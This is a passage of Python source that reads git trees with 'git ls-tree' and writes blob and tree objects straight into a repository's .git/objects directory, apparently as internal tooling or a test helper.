    """What commits hold, each asked for once, in whichever of the repositories that have it."""

    def of(self, commit_: str, repo: Path) -> bytes:
        """The list that git gives of a commit."""
        if commit_ not in self:
            words = ["git", "ls-tree", "-r", "-z", "--full-tree", commit_]
            self[commit_] = subprocess.run(words, cwd=repo, capture_output=True, check=True).stdout
        return self[commit_]


_TREES = _Trees()


def _entries(repo: Path, commit_: str) -> Iterable[tuple[str, str, str]]:
    for line in filter(None, _TREES.of(commit_, repo).split(b"\0")):
        head, _, path = os.fsdecode(line).partition("\t")
        mode, _, blob = head.split()
        yield path, mode, blob


def _entry(repo: Path, change: str | bytes | Git) -> tuple[str, str]:
    match change:
        case Git("160000", data):
            return "160000", data.decode()
        case Git(mode, data):
            return mode, _object(repo, "blob", data)
        case bytes():
            return "100644", _object(repo, "blob", change)
        case str():
            return "100644", _object(repo, "blob", change.encode())


def _tree(repo: Path, entries: Mapping[str, tuple[str, str]]) -> str:
    here: dict[str, tuple[str, str]] = {}
    below: dict[str, dict[str, tuple[str, str]]] = {}
    for path, entry in entries.items():
        name, slash, rest = path.partition("/")
        if slash:
            below.setdefault(name, {})[rest] = entry
        else:
            here[name] = entry
    rows = [(name, mode, blob) for name, (mode, blob) in here.items()]
    rows += [(name, "40000", _tree(repo, inner)) for name, inner in below.items()]
    rows.sort(key=lambda row: os.fsencode(row[0] + "/" * (row[1] == "40000")))
    data = b"".join(
        f"{mode} ".encode() + os.fsencode(name) + b"\0" + bytes.fromhex(blob) for name, mode, blob in rows
    )
    return _object(repo, "tree", data)


def _object(repo: Path, kind: str, data: bytes) -> str:
    whole = f"{kind} {len(data)}\0".encode() + data
    name = hashlib.sha1(whole, usedforsecurity=False).hexdigest()
    place = repo / ".git" / "objects" / name[:2] / name[2:]
    if not place.exists():
        place.parent.mkdir(exist_ok=True)
        place.write_bytes(zlib.compress(whole, 1))
    return name
